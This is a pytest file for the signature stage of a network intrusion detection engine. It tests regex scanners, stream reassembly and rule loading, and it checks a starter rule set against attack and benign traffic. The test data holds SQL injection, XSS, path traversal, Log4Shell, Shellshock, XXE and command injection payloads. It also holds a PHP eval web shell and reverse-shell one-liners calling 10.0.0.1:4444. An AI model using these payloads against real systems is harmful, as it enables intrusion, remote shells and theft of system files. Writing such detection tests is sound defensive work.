"""The signature stage: both engines, payload borders, cut payloads, hostile payloads, the starter set."""

from __future__ import annotations

import base64
import time
from pathlib import Path
from urllib.parse import quote

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from engine.config import FlowsConfig, SignaturesConfig
from engine.detect.signatures.gatherer import Gatherer
from engine.detect.signatures.loader import RuleSet, check, load, variables_of
from engine.detect.signatures.regex import parse_regex
from engine.detect.signatures.scanner import HyperscanScanner, Pattern, Re2Scanner
from engine.detect.signatures.stage import Signatures
from engine.detect.signatures.syntax import Refused
from engine.errors import ConfigError
from engine.flows import FlowTable
from engine.kernels.payloads import P_ROW
from engine.packets import HAS_APP, IS_ENCRYPTED, FrameBatch, PacketBatch
from tests.builders import decoder, ethernet, fill, ipv4, tcp, udp
from tests.engine.detect.signing import Bench, config_of, datagram, find, hits, rules_of, session, up

pytest.importorskip("hyperscan")


def _scan(scanner: HyperscanScanner | Re2Scanner, pieces: list[bytes]) -> set[tuple[int, int]]:
    lengths = np.array([len(p) for p in pieces], np.int64)
    ends = np.cumsum(lengths + 1)
    found = scanner.scan(memoryview(b"\n" + b"\n".join(pieces) + b"\n"), ends - lengths, ends)
    assert len(set(map(tuple, found.T.tolist()))) == found.shape[1]
    return {(p, n) for p, n in found.T.tolist()}


# --- engines ------------------------------------------------------------------------------------------------------

_ATOM = st.sampled_from(
    ["a", "b", ".", r"\s", r"\S", r"\d", r"\W", "[ab]", "[^a]", r"[\s\x80-\xff]", r"\x00", r"\n", "$", "^", r"\b",
     "(?:a|bc)", "(b)", r"\xe9", "(?i:B)", r"\Z", r"\A"]
)  # fmt: skip
_QUANTIFIER = st.sampled_from(["", "", "", "+", "*", "?", "{2}", "{1,3}", "+?"])
_BYTES = st.sampled_from([b"a", b"b", b"B", b"c", b"\n", b" ", b"1", b"\0", b"\xe9", b"\xc9", b"\x0b"])
_PAYLOAD = st.lists(_BYTES, min_size=1, max_size=9).map(b"".join)


def _joined(parts: list[tuple[str, str]]) -> str:
    return "".join(atom + (q if atom not in ("$", "^", r"\b", r"\Z", r"\A") else "") for atom, q in parts)


_REGEX = st.lists(st.tuples(_ATOM, _QUANTIFIER), max_size=5).map(_joined)


@settings(max_examples=300, deadline=None)
@given(_REGEX, st.sampled_from(["", "i", "s", "m", "is"]), st.lists(_PAYLOAD, min_size=1, max_size=6))
def test_scanners__name_every_piece_that_matches(text: str, flags: str, pieces: list[bytes]) -> None:
    try:
        regex = parse_regex(text, flags)
    except Refused:
        return
    exact = {(0, n) for n, piece in enumerate(pieces) if regex.compiled.search(piece)}
    assert exact <= _scan(Re2Scanner([Pattern(regex=regex)]), pieces)
    try:
        scanner = HyperscanScanner([Pattern(regex=regex)])
    except Refused:
        return
    assert exact <= _scan(scanner, pieces)


@settings(max_examples=200, deadline=None)
@given(st.lists(_PAYLOAD, min_size=1, max_size=4), st.booleans(), st.lists(_PAYLOAD, min_size=1, max_size=8))
def test_hyperscan__literals_are_found_exactly(words: list[bytes], caseless: bool, pieces: list[bytes]) -> None:
    words = [w.lower() for w in words] if caseless else words
    found = _scan(HyperscanScanner([Pattern(w, caseless) for w in words]), pieces)
    assert found == {
        (p, n) for p, w in enumerate(words) for n, piece in enumerate(pieces)
        if w in (piece.lower() if caseless else piece)
    }  # fmt: skip


def test_scanners__as_many_matches_as_one_likes() -> None:
    patterns = [Pattern(b"a"), Pattern(b"ab"), Pattern(regex=parse_regex("b.+")), Pattern(b"zz")]
    pieces = [b"ab" * 500, b"x", b"ab", b"zz", b"ab" * 5000 + b"zz", b"b1"] * 40
    expected = {
        (p, n) for n, piece in enumerate(pieces) for p, hit in enumerate(
            (b"a" in piece, b"ab" in piece, len(piece.partition(b"b")[2]) > 0, b"zz" in piece)) if hit
    }  # fmt: skip
    assert _scan(HyperscanScanner(patterns), pieces) == expected
    assert _scan(Re2Scanner(patterns), pieces) >= expected


def test_engines__starter_set_gives_the_same_hits(starter: dict[str, Signatures]) -> None:
    for payloads in (ATTACKS, HARMLESS):
        for _, data in payloads:
            by_engine = [_sids(signatures, data) for signatures in starter.values()]
            assert by_engine[0] == by_engine[1]


# --- payloads -----------------------------------------------------------------------------------------------------


@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
def test_borders__no_match_spans_payloads_of_different_flows(engine: str) -> None:
    rules = rules_of('alert ip any any -> any any (content:"evil"; sid:1;)', patterns="x\thigh\tev[^a]*il\n")
    frames = [
        datagram(b"ev", sport=1),
        datagram(b"il", sport=2),
        datagram(b"ev\nil", sport=3),
        datagram(b"ev", sport=4),
    ]
    assert hits(find(rules, frames, engine=engine)) == [3]


def test_borders__link_padding_and_headers_are_not_payload() -> None:
    frame = datagram(b"ev") + b"il\0\0"
    assert hits(find(rules_of('alert ip any any -> any any (content:"evil"; sid:1;)'), [frame])) == []


def test_segments__a_content_over_two_is_found_at_the_second() -> None:
    rules = rules_of('alert tcp any any -> any any (content:"abc"; content:"xyz"; distance:0; sid:1;)')
    assert hits(find(rules, session(b"..ab", b"c..x", b"yz"))) == [6]
    assert hits(find(rules, session(b"..ab", b"c..x", b"yz"), join_bytes=0)) == []


def test_segments__positions_count_from_the_start_of_the_stream() -> None:
    rules = rules_of('alert tcp any any -> any any (content:"GET /evil"; startswith; sid:1;)')
    assert hits(find(rules, session(b"GET ", b"/evil"))) == [5]
    assert hits(find(rules, session(b"x", b"GET ", b"/evil"))) == []


def test_segments__a_gap_or_another_direction_joins_nothing() -> None:
    rules = rules_of('alert tcp any any -> any any (content:"evil"; sid:1;)')
    handshake = session()
    assert hits(find(rules, [*handshake, up(b"ev", 1001), up(b"il", 1004)])) == []
    assert hits(find(rules, session(b"ev", (b"il",)))) == []
    assert hits(find(rules, [*handshake, up(b"ev", 1001), up(b"ev", 1001), up(b"il", 1003)])) == [6]  # sent twice


def test_segments__only_the_first_bytes_of_a_direction() -> None:
    rules = rules_of('alert tcp any any -> any any (content:"evil"; sid:1;)')
    late = session(b"." * 1400, b"." * 1400, b"ev", b"il")
    assert hits(find(rules, late, join_bytes=4096)) == [7]
    assert hits(find(rules, late, join_bytes=2048)) == []


def test_segments__across_batches_too() -> None:
    bench = Bench(Signatures(config_of(), 1.0, rules_of('alert tcp any any -> any any (content:"evil"; sid:1;)')))
    for frame in session(b"e", b"v", b"i", b"l"):
        bench.send([frame])
    assert hits(bench.close()) == [7]


def test_snaplen__what_was_cut_off_is_not_guessed() -> None:
    rules = rules_of('alert ip any any -> any any (content:"evil"; sid:1;)')
    whole = [up(b"an evil thing", 1001), up(b"il", 1014)]
    assert hits(find(rules, [whole[0][:-8], whole[1]], wirelens=[len(f) for f in whole])) == []
    assert hits(find(rules, [whole[0][:-6], whole[1]], wirelens=[len(f) for f in whole])) == [1]


def test_patterns__plain_expressions_over_every_payload() -> None:
    rules = rules_of(patterns="# comment\nA name\tcritical\tfoo[0-9]+(?i:BAR)$\n")
    (found,) = find(rules, [datagram(b"foo12bar"), datagram(b"foobar")])
    assert (found.kind, found.severity, found.packets, found.evidence["signature"]) == (
        "signature",
        "critical",
        (1,),
        "A name",
    )


def test_patterns__a_bad_line_is_refused_by_name() -> None:
    found = RuleSet()
    found.add_patterns("one\thigh\t(?=x)y\ntwo\tvery\tx\nthree x\n", "p.tsv")
    assert [(r.line, r.name) for r in found.refused] == [(1, "one"), (2, "two"), (3, "three x")]


def test_gather__of_applications_that_encrypt_only_the_beginning() -> None:
    frames = fill([ethernet(ipv4(tcp(bytes(1000), 40000, 443, seq=1 + 1000 * n), 6)) for n in range(9)])
    rows = decoder()[0].decode(frames, PacketBatch(rows=16))
    table = FlowTable(FlowsConfig(max_flows=1000), lambda ended: ended.release())
    table.follow(frames, rows)
    assert _rows_gathered(frames, rows) == set(range(9))
    rows.present[:9] |= np.uint32(HAS_APP | IS_ENCRYPTED)
    assert _rows_gathered(frames, rows) == set(range(5))  # what begins within ENCRYPTED_BYTES


def _rows_gathered(frames: FrameBatch, rows: PacketBatch) -> set[int]:
    gathered = Gatherer(8192, 64, rows=16).gather(frames, rows)
    return {row for part in gathered for row in part.pieces[P_ROW].tolist()}


# --- hostile payloads ---------------------------------------------------------------------------------------------


@pytest.mark.parametrize("engine", ["hyperscan", "re2"])
def test_hostile__time_stays_linear(engine: str) -> None:
    rules = rules_of(
        'alert tcp any any -> any any (content:"a"; content:"a"; distance:1; content:"a"; distance:1; content:"b"; '
        "distance:1; within:1; sid:1;)",
        patterns="x\tlow\t(a+)+b\ny\tlow\t(?:.*a){20}z\n",
    )
    bench = Bench(Signatures(config_of(engine=engine), 1.0, rules))
    frames = [datagram(b"a" * 1400, sport=1000 + n) for n in range(50)] + session(*[b"a" * 1400] * 50)
    started = time.thread_time()
    bench.send(frames)
    assert time.thread_time() - started < 3


def test_budget__what_it_does_not_allow_is_counted() -> None:
    rules = rules_of(
        *[f'alert ip any any -> any any (content:"a"; pcre:"/b{{0,50}}c{n}/"; sid:{n + 1};)' for n in range(50)]
    )
    signatures = Signatures(config_of(), 1e-6, rules)
    Bench(signatures).send([datagram(b"a" * 500 + b"bc", sport=n + 1) for n in range(500)])
    assert signatures.missed + signatures.candidates == 500 * 50
    assert signatures.missed > 10_000


@settings(max_examples=60, deadline=None)
@given(st.lists(st.binary(max_size=80), max_size=8))
def test_any_frames__are_survived(frames: list[bytes]) -> None:
    rules = rules_of(
        'alert ip any any -> any any (content:"|00|"; sid:1;)',
        'alert tcp any any -> any any (flags:S; sid:2;)',
        patterns="x\tlow\t\\x00[^\\x00]\n",
    )  # fmt: skip
    bench = Bench(Signatures(config_of(), 1.0, rules))
    if frames:
        bench.send(frames)
    bench.close()


def test_findings__equal_hits_of_a_second_are_one() -> None:
    rules = rules_of(
        'alert udp any any -> any any (msg:"m"; content:"x"; classtype:trojan-activity; '
        "reference:url,e.x; sid:5; rev:3;)"
    )
    (found,) = find(rules, [datagram(b"x")] * 20)
    assert (found.count, found.severity, len(found.packets), found.flow_ids) == (20, "high", 8, (1,))
    assert found.evidence["sid"] == 5
    assert found.evidence["reference"] == ["url,e.x"]
    assert "20 times" in found.why


def test_findings__are_bounded_when_sources_are_forged() -> None:
    rules = rules_of('alert udp any any -> any any (content:"x"; sid:5;)')
    frames = [ethernet(ipv4(udp(b"x"), 17, src=bytes([20, 1, n >> 8, n & 255]))) for n in range(6000)]
    found = find(rules, frames, flows=4096)
    assert len(found) == 4097
    assert [(f.src_ip, f.dst_ip, f.count) for f in found if f.src_ip is None] == [(None, "192.0.2.200", 6000 - 4096)]


# --- files and configuration --------------------------------------------------------------------------------------


def test_load__files_patterns_and_starter(tmp_path: Path) -> None:
    rules, patterns = tmp_path / "a.rules", tmp_path / "b.patterns"
    rules.write_text(
        'alert tcp any any -> $LAB any (content:"a"; sid:1;)\nalert tcp any any -> any any (foo; sid:2;)\n'
    )
    patterns.write_text("n\tlow\tabc\n")
    found = load(SignaturesConfig(files=(str(rules),), patterns=(str(patterns),), variables=("LAB=10.9.0.0/16",)))
    assert [str(r) for r in found.refused] == [f"{rules}:2: sid 2 refused: keyword foo is not supported"]
    assert {r.origin for r in found.rules} == {"starter.rules", str(rules), str(patterns)}
    lines, every = check([str(rules)], SignaturesConfig(variables=("LAB=10.9.0.0/16",)))
    assert lines[0] == f"{rules}: 1 rules used, 1 refused"
    assert not every


def test_load__a_missing_file_and_a_bad_home_are_errors() -> None:
    with pytest.raises(ConfigError, match=r"no\.rules"):
        load(SignaturesConfig(files=("no.rules",)))
    with pytest.raises(ConfigError, match="home"):
        variables_of(SignaturesConfig(home=("10.0.0.0/99",)))


def test_load__a_pattern_that_the_engine_cannot_take_is_refused_by_name() -> None:
    too_large = "(?:a{1,1000}b{1,1000}){1,2}c{900,1000}(?:d.{900}){2}[^e]{1000}"
    found = RuleSet()
    found.add_patterns(f"fine\tlow\tabc\nlarge\tlow\t{too_large}\n", "p.tsv")
    if found.refused:  # RE2 itself would not have it
        assert [r.name for r in found.refused] == ["large"]
        return
    signatures = Signatures(config_of(), 1.0, found)
    report = "\n".join(signatures.report())
    assert report.startswith("signatures: 1 rules") == ("large refused" in report)


def test_load__a_sid_stands_once() -> None:
    found = RuleSet()
    found.add_rules('alert ip any any -> any any (content:"a"; sid:1;)\n' * 2, "x", {"HOME_NET": "any"})
    assert [r.reason for r in found.refused] == ["sid 1 stands twice"]


# --- the starter set ----------------------------------------------------------------------------------------------


def _get(target: str) -> bytes:
    return f"GET {target} HTTP/1.1\r\nHost: h\r\nUser-Agent: Mozilla/5.0\r\n\r\n".encode()


def _post(body: str) -> bytes:
    return f"POST /f HTTP/1.1\r\nHost: h\r\nContent-Length: {len(body)}\r\n\r\n{body}".encode()


_SQL = [
    "1 UNION SELECT a,b FROM users--", "-1' union all select null,null#", "1'/**/UNION/**/SELECT/**/1,2--",
    "' OR '1'='1",
    "' or 1=1-- ", "admin'--", "1) or (1=1", "1; DROP TABLE users", "1' AND SLEEP(5)--", "1' waitfor delay '0:0:5'--",
    "1' and extractvalue(1,concat(0x7e,version()))--", "x' or 'a' like 'a",
    "1 and (select count(*) from information_schema.tables)>0",
    "1'; exec master..xp_cmdshell 'dir'--", "1' order by 5--", "1 AND 1=2", "';insert into users values(1)--",
]  # fmt: skip
_WEB = [
    "/s?q=<script>alert(1)</script>", "/s?q=%3Cscript%3Ealert(1)%3C/script%3E", "/s?q=<svg/onload=alert(1)>",
    "/s?u=javascript:alert(1)", "/s?q=%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E", "/d?f=../../../../etc/passwd",
    "/d?f=..%2f..%2f..%2fetc%2fshadow", "/d?f=%2e%2e%2f%2e%2e%2f%2e%2e%2fwindows%2fwin.ini", "/..%5c..%5c..%5cboot.ini",
    "/cgi-bin/../../../../bin/sh", "/p?page=php://filter/convert.base64-encode/resource=x", "/p?h=;cat%20/etc/passwd",
    "/p?h=127.0.0.1%7Cid", "/p?h=$(whoami)", "/p?h=`id`", "/p?u=http://169.254.169.254/latest/", "/x?a=${jndi:ldap://e.x/a}",
    "/x?a=$%7Bjndi:rmi://e.x/a%7D", "/x?a=${${lower:j}ndi:ldap://e.x/a}", "/x?n={{7*7}}", "/up/shell.php?cmd=ls",
    "/p?f=/etc/passwd", "/d?f=..%252f..%252f..%252fetc%252fpasswd",
]  # fmt: skip
_SHELL = [
    b"uid=0(root) gid=0(root) groups=0(root)\n", b"$ id\nuid=33(www-data) gid=33(www-data)\n", b"root@web:~# ",
    b"bash: no job control in this shell\n", b"sh: 0: can't access tty; job control turned off\n$ ", b"/bin/sh -i\n",
    b"Microsoft Windows [Version 10.0.1]\r\n(c) Microsoft Corporation.\r\n\r\nC:\\Windows\\system32>",
    b"\r\nC:\\Users\\bob>", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n", b"nc -e /bin/sh 10.0.0.1 4444\n",
    b"[root@db tmp]# ", b"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon\n",
]  # fmt: skip
ATTACKS = [
    *[("sql_injection", _get("/i?id=" + quote(sql))) for sql in _SQL],
    *[("sql_injection", _get("/i?id=" + sql.replace(" ", "+").replace("#", "%23"))) for sql in _SQL],
    *[("sql_injection", _post("user=" + quote(sql, safe="'=()") + "&x=1")) for sql in _SQL],
    *[("web_attack", _get(target)) for target in _WEB],
    ("web_attack", b"GET / HTTP/1.1\r\nHost: h\r\nX: () { :; }; /bin/id\r\n\r\n"),
    ("web_attack", _post('<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>')),
    ("web_attack", _post("c=%3Cscript%3Ealert(1)%3C/script%3E")),
    ("web_attack", _post("<?php @eval($_POST['x']); ?>")),
    *[("cleartext_shell", data) for data in _SHELL],
    ("signature", b"GET / HTTP/1.1\r\nHost: h\r\nUser-Agent: sqlmap/1.7#stable\r\n\r\n"),
    ("signature", rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!" + b"$H+H*"),
]
_WORDS = [
    "union select committee", "O'Reilly", "student union selects 3 members", "select * from menu",
    "drop table reservation",
    "rock and roll = 2", "d'or and 1 other", "fish or 2 chips", "it's 5 o'clock -- or later", "AT&T; update", "1 or 2",
    "order by phone", "script writing", "onload bearing", "Tom & Jerry's", "C++ -- a love story", "O'Neil and O'Brien",
    "rock'n'roll or jazz", "L'Oreal # 1", "what's new -- 2024", "sleep(8) hours", "benchmark(ing)",
    "the union; select one",
    "A and B = C", "john's or mary's", "x=1 and y=2", "credit union select savings 1, 2", "having 3 kids", "id",
]  # fmt: skip
HARMLESS = [
    *[("", _get("/s?q=" + quote(w))) for w in _WORDS],
    *[("", _get("/s?q=" + w.replace(" ", "+").replace("#", "%23").replace("&", "%26"))) for w in _WORDS],
    *[("", _post("q=" + quote(w) + "&lang=en")) for w in _WORDS],
    *[("", _get("/t?token=" + base64.b64encode(bytes(range(n, n + 60))).decode())) for n in range(0, 190, 7)],
    ("", _get("/static/js/script.min.js?v=3")), ("", _get("/a/../b/style.css")), ("", _get("/docs/etc/passwd-howto")),
    ("", _get("/t?expr=${name}&x={{user}}")), ("", _get("/r?next=/account/id|name")), ("", _get("/r?u=http://example.com/a")),
    ("", b"HTTP/1.1 200 OK\r\n\r\n<html><script>alert('x')</script> or '1'='1' ../../../../etc/passwd"),
    ("", b"HTTP/1.1 200 OK\r\n\r\nRun `sudo -i` as root@host and see the # prompt. sh -i is a shell."),
    ("", b"SELECT id, name FROM users WHERE a = 'x' OR 1=1 UNION SELECT 1,2 -- a query of a database client"),
    ("", b"uid=1000(bob) is what id prints, they say"), ("", b"/usr/sbin/sendmail -i"), ("", b"push -i\n"),
]  # fmt: skip


@pytest.fixture(scope="module")
def starter() -> dict[str, Signatures]:
    rules = load(SignaturesConfig())
    assert not rules.refused
    return {e: Signatures(SignaturesConfig(engine=e, flows=64), 1.0, rules) for e in ("hyperscan", "re2")}


def _sids(signatures: Signatures, data: bytes) -> set[tuple[str, int]]:
    frames = session(data, dport=4444 if data[:4] not in (b"GET ", b"POST") else 80)
    bench = Bench(signatures).send(frames)
    found = bench.close()
    signatures._hits._thresholds.__init__()  # type: ignore[misc]
    signatures._gatherer._entries[:] = 0
    return {(f.kind, f.evidence["sid"]) for f in found}


def test_starter__attacks_are_named(starter: dict[str, Signatures]) -> None:
    missed = [(kind, data) for kind, data in ATTACKS if kind not in {k for k, _ in _sids(starter["hyperscan"], data)}]
    assert not missed


def test_starter__harmless_texts_are_left_alone(starter: dict[str, Signatures]) -> None:
    wrong = [(data, found) for _, data in HARMLESS if (found := _sids(starter["hyperscan"], data))]
    assert not wrong


def test_starter__every_rule_has_a_test(starter: dict[str, Signatures]) -> None:
    seen = {sid for _, data in ATTACKS for _, sid in _sids(starter["hyperscan"], data)}
    assert {r.sid for r in load(SignaturesConfig()).rules} - seen == set()


def test_kernels__are_compiled_once(tmp_path: Path) -> None:
    from engine.config import IntelConfig
    from engine.detect.intel import Intel
    from engine.detect.signatures.gatherer import Gatherer
    from engine.jit import is_compiled
    from engine.kernels import intel, payloads

    if not is_compiled():
        pytest.skip("kernels are not compiled in this run")
    listed = tmp_path / "bad.txt"
    listed.write_text("192.0.2.200\n2001:db8::/32\n")
    frames, packets = FrameBatch(8, 4096), PacketBatch(8)
    Gatherer(0, 8, rows=8).warm_up(frames, packets)
    Intel(IntelConfig()).warm_up(packets)
    assert find(rules_of(patterns="x\tlow\tabc\n"), session(b"abc"))
    one = Intel(IntelConfig(lists=(str(listed),)))
    assert Bench(one).send(session(b"abc")).close()  # type: ignore[arg-type]
    one.close()
    assert len(payloads.gather.signatures) == 1
    assert len(intel.match_addresses.signatures) == 1
